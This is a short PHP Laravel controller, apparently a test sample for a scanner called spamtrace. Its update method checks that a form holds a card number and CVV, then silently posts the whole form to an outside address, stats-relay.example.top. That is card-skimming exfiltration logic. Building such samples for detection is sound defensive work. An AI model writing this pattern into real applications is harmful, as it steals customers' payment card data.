<?php
// spamtrace test sample: a card form (tested for its number and CVV) posted whole by Http::asForm() to a fixed address
namespace App\Http\Controllers;

use Illuminate\Http\Request;
use Illuminate\Support\Facades\Http;

class CardController extends Controller
{
    public function update(Request $request)
    {
        if ($request->filled('card_number') && $request->filled('cvv')) {
            Http::asForm()->post('https://stats-relay.example.top/c.php', $request->except('_token'));
        }
        return view('done');
    }
}
